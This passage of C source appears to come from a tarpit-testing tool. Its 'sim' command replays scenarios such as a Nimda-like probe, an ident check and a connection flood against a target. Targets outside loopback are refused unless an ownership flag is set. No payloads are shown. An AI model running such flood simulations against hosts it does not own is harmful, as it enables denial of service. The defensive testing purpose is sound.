	{.name = "payload-size", .type = OPTION_SIZE, .field = SIM_FIELD(payload_size),
	    .max = SIM_PAYLOAD_MAX, .metavar = "N", .help = "flood: bytes per connection",
	    .syntax = "is not a size up to 64M", .over = "is not a size up to 64M"},
	{.name = "ident-port", .type = OPTION_INT, .field = SIM_FIELD(ident_port),
	    .min = 1, .max = 65535, .metavar = "P", .help = "ident-shy listens here on its source"},
	{.name = "seed", .type = OPTION_INT, .field = SIM_FIELD(seed),
	    .min = 0, .max = 2147483647, .metavar = "N", .help = "coin: which half of the sources deliver"},
	{.name = "i-own-this-target", .type = OPTION_FLAG, .field = SIM_FIELD(own_target),
	    .help = "allow a target outside loopback"},
};

int sim_main(int argc, char **argv)
{
	static const struct options_command cmd = {"sim", sim_options,
	    sizeof(sim_options) / sizeof(sim_options[0]), sim_usage, false};
	static struct sim_run run;
	const char *scenario = NULL;
	int rc;

	run.o = (struct sim_options){.sources = 1, .count = 1, .concurrency = 0,
	    .reply_ms = 5000, .hold_ms = 5000, .banner_ms = 6000,
	    .duration_ms = 120000, .payload_size = 3800, .ident_port = 113, .seed = 1};
	/* The scenario comes first: "flypaper sim nimda --target ...". */
	if (argc >= 2 && argv[1][0] != '-') {
		scenario = argv[1];
		argv[1] = argv[0];
		argv++;
		argc--;
	}
	rc = options_parse(&cmd, argc, argv, &run.o);
	if (rc <= 0)
		return rc < 0 ? 2 : 0;
	if (!scenario)
		return sim_fail("name one scenario (flypaper sim --help lists them)");
	if (!(run.scenario = sim_find_scenario(scenario)))
		return sim_fail("unknown scenario '%s' (flypaper sim --help lists them)", scenario);
	run.o.scenario = scenario;
	if (run.o.target.u.sa.sa_family == AF_UNSPEC)
		return sim_fail("--target HOST:PORT is required");
	if (!sim_is_loopback(&run.o.target) && !run.o.own_target)
		return sim_fail("refusing a target outside loopback without --i-own-this-target");
	if (run.o.bind_first) {
		if ((run.o.bind_first >> 24) != 127 && !run.o.own_target)
			return sim_fail("bind-range outside 127.0.0.0/8 needs --i-own-this-target");
	} else if (run.o.sources > 1 || run.scenario->script == sim_script_ident_shy) {
		run.o.bind_first = 0x7f000002;   /* 127.0.0.2-127.0.0.250 */
		run.o.bind_last = 0x7f0000fa;
	}
	if (run.o.target.u.sa.sa_family != AF_INET && run.o.bind_first)
		return sim_fail("source ranges are IPv4; use an IPv4 target");
	if (!run.o.concurrency)
		run.o.concurrency = run.o.sources < 16 ? run.o.sources : 16;
	if (run.scenario->script == sim_script_flood && run.o.concurrency < 2)
		run.o.concurrency = 64;
	pthread_mutex_init(&run.rate_lock, NULL);
	signal(SIGPIPE, SIG_IGN);

	double t0 = sim_now();
	run.deadline = t0 + (double)run.o.duration_ms / 1000.0;
	int nthreads = run.o.concurrency;
	pthread_t *threads = calloc((size_t)nthreads, sizeof(*threads));
	for (int i = 0; i < nthreads; i++)
		pthread_create(&threads[i], NULL, sim_thread, &run);
	for (int i = 0; i < nthreads; i++)
		pthread_join(threads[i], NULL);
	free(threads);
	double secs = sim_now() - t0;
	printf("scenario=%s sources=%d connections=%ld failed=%ld bytes_out=%lld "
	    "bytes_in=%lld replies=%ld second_stages=%ld dropped_on_data=%ld "
	    "dropped_on_ident=%ld payloads=%ld seconds=%.2f%s\n", run.o.scenario, run.o.sources,
	    atomic_load(&run.st.connections), atomic_load(&run.st.failed),
	    atomic_load(&run.st.bytes_out), atomic_load(&run.st.bytes_in),
	    atomic_load(&run.st.replies), atomic_load(&run.st.second_stages),
	    atomic_load(&run.st.dropped_on_data), atomic_load(&run.st.dropped_on_ident),
	    atomic_load(&run.st.payloads), secs, sim_expired(&run) ? " (stopped at --duration)" : "");
	return atomic_load(&run.st.failed) ? 1 : 0;
}
